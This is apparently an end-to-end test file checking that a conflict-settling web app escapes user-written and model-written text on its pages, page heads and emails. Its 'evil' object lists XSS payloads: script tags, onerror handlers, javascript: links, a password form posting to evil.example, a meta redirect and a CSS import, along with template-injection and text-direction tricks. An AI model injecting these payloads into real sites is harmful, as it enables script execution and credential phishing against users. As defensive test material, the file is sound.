import { ada, carla, jonas, maya } from '@squash/testkit/cast'
import { done, reaches, vote } from '@squash/testkit/conflict-steps'
import { HARMFUL, LEAKING, obeying } from '@squash/testkit/obeying'
import type { Page } from 'playwright-core'
import { describe, expect } from 'vitest'
import { journeyWithModel } from './support/journey.ts'
import { linkIn, mailTo } from './support/mail.ts'
import { mayaAndJonas, signedUp } from './support/people.ts'
import { complaintsOf } from './support/visitor.ts'
import { idOf } from './support/world.ts'

/** What each text tries to become on a page; a call of `boom` is detected. */
const evil = {
  first_name: '<img src=x onerror=boom()>',
  last_name: '"><svg onload=boom()>',
  title: '</title><script>boom()</script>"><b id=evil>\u202ekeys',
  message:
    '<script>boom()</script> <a href="javascript:boom()" id=evil>settle</a> [here](javascript:boom()) ' +
    '<form action="https://evil.example"><input name=password></form> {{constructor.constructor("boom()")()}}',
  response: `'"><iframe src="javascript:parent.boom()"></iframe> <base href="https://evil.example/"> &lt;script&gt;boom()`,
  core1: '</textarea><svg><script>boom()</script></svg><meta http-equiv=refresh content="0;url=https://evil.example">',
  core2: '<style>@import "https://evil.example/x.css";</style><math><mglyph><style><img src=x onerror=boom()>',
  side: '<img src=x onerror=boom()>',
  position:
    '<object data="https://evil.example/x"></object> https://evil.example/ javascript:boom() <b onclick=boom()>b</b>',
} as const

/** Sends the text whatever the safety check finds. */
const sent = { safety_acknowledged: true }

type Written = { conflict: string; debate: string; invite: string; mayasId: string }

const it = journeyWithModel
  .extend('people', { scope: 'file' }, async ({ squash }) => ({
    ...(await mayaAndJonas(squash)),
    ada: await signedUp(squash, ada),
  }))
  .extend('written', { scope: 'file', auto: true }, async ({ people, provider, squash }): Promise<Written> => {
    // The model contributes too: it repeats its input and adds markup of its own.
    const manners = [
      LEAKING['repeats the last text it was given'],
      HARMFUL['writes HTML'],
      HARMFUL['writes Markdown with links'],
    ]
    provider.always(obeying(manners.flatMap((manner) => (manner ? [manner] : []))))
    const { maya: m, jonas: j } = people
    const { first_name, last_name, title } = evil
    for (const { call } of [m, j]) await done(call('update_profile', { first_name, last_name }))

    const start = (user2_email: string) =>
      done(
        m.call('create_conflict', { title, user2_email, user1_mood: 'rage', user1_raw_message: evil.message, ...sent }),
      )
    const conflict = (await start(jonas.email)).id
    const about = { p_conflict_id: conflict }
    await done(j.call('respond_to_conflict', { ...about, user2_raw_message: evil.response, ...sent }))
    await reaches(m, conflict, 'vote_1')
    await vote(m, conflict, false)
    await reaches(m, conflict, 'vote_2')
    await vote(j, conflict, false)
    await reaches(m, conflict, 'core_issues')
    await done(m.call('submit_core_issue', { ...about, core_issue: evil.core1, ...sent }))
    await done(j.call('submit_core_issue', { ...about, core_issue: evil.core2, ...sent }))
    await reaches(m, conflict, 'vote_3')
    await done(m.call('request_final_ruling', { ...about, show_my_name: true }))
    await reaches(m, conflict, 'ruled')
    await done(j.call('set_ruling_name_shown', { ...about, shown: true }))

    await start(carla.email)
    const invite = new URL(linkIn(await mailTo(squash, carla.email, /settle/), '/invite/')).pathname
    const argued = {
      title,
      creator_side: evil.side,
      creator_position: evil.position,
      opponent_side: evil.side,
      opponent_email: jonas.email,
      ...sent,
    }
    const debate = (await done(m.call('create_debate', argued))).id
    await done(j.call('respond_to_debate_invite', { p_debate_id: debate, p_position: evil.position, ...sent }))
    return { conflict, debate, invite, mayasId: idOf(m) }
  })

/** Elements and handlers on the page that only an unescaped text could have added. */
const foreign = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const unexpected = document.querySelectorAll(
      [
        '#evil, iframe, object, embed, base, math, textarea[name], meta[http-equiv="refresh"], [src="x"]',
        'script:not([src^="/"], [type="application/json"]), [href^="javascript:" i], [action^="http"], [href*="evil.example"], [src*="evil.example"]',
      ].join(),
    )
    const handlers = [...document.querySelectorAll('*')].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith('on')),
    )
    return [...unexpected, ...handlers].map((element) => element.outerHTML.slice(0, 200))
  })

describe('what people write is shown as plain text', () => {
  const pages: readonly (readonly [string, (written: Written) => string, 'maya' | 'jonas' | 'ada' | null, string])[] = [
    ["the creator's dashboard", () => '/dashboard', 'maya', '<b id=evil>'],
    ['the history', () => '/history', 'jonas', '<b id=evil>'],
    ['the conflict, for its creator', ({ conflict }) => `/conflict/${conflict}`, 'maya', '<b id=evil>'],
    ['the conflict, for its opponent', ({ conflict }) => `/conflict/${conflict}`, 'jonas', '<b id=evil>'],
    ['the public board', () => '/public-shame', null, '<b id=evil>'],
    ['the page of the ruling', ({ conflict }) => `/ruling/${conflict}`, null, '<b id=evil>'],
    ['the debate, for a stranger', ({ debate }) => `/debates/${debate}`, 'ada', '<b id=evil>'],
    ['the debates', () => '/debates', 'ada', '<b id=evil>'],
    ['the own profile', () => '/profile', 'maya', 'onerror=boom()'],
    ["another user's profile", ({ mayasId }) => `/user-profile/${mayasId}`, 'jonas', 'onerror=boom()'],
    ['the leaderboard', () => '/leaderboard', 'ada', 'onerror=boom()'],
    ['the invite page', ({ invite }) => invite, null, 'What happens'],
  ]

  it.for(pages)('on %s', async ([_, path, who, shows], { people, squash, visit, written }) => {
    const page = await visit(who ? { as: people[who] } : {})
    const heard: string[] = []
    await page.exposeFunction('boom', () => heard.push('boom'))
    page.on('dialog', (dialog) => {
      heard.push(dialog.message())
      void dialog.dismiss()
    })
    page.on('request', (request) => {
      if (!request.url().startsWith(squash.url) && !request.url().startsWith('data:')) heard.push(request.url())
    })
    await page.goto(path(written))
    await page.getByRole('heading', { level: 1 }).waitFor()
    await page.getByText(shows).filter({ visible: true }).first().waitFor()
    expect(await foreign(page)).toEqual([])
    expect(await page.title()).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/)
    expect(heard).toEqual([])
    // If the content security policy had blocked anything, the console would show it.
    expect(complaintsOf(page)).toEqual([])
  })

  const shared: readonly (readonly [string, (written: Written) => string])[] = [
    ['debate', ({ debate }) => `/debates/${debate}`],
    ['ruling', ({ conflict }) => `/ruling/${conflict}`],
  ]
  it.for(shared)('in the head of a shared %s', async ([_what, path], { squash, written }) => {
    const html = await (await fetch(squash.url + path(written), { headers: { accept: 'text/html' } })).text()
    expect(html).toContain('og:title')
    const head = html.slice(0, html.indexOf('</head>'))
    expect(head.match(/<script/g)?.length).toBe(head.match(/<script[^>]+src="\//g)?.length)
    expect(head).not.toMatch(/boom\(\)<|<b |<img|<svg|\u202e/)
  })

  it('in mails: no name or title becomes markup', async ({ squash }) => {
    for (const { email } of [carla, jonas, maya]) {
      await mailTo(squash, email, /./)
      const mails = await squash.mails(email)
      for (const { html, subject } of mails) {
        expect(html).not.toMatch(/<script|<svg|<img|<b id|<iframe|onerror=|javascript:|evil\.example/i)
        expect(subject).not.toMatch(/[\p{Cc}\u202a-\u202e]/u)
      }
    }
  })
})
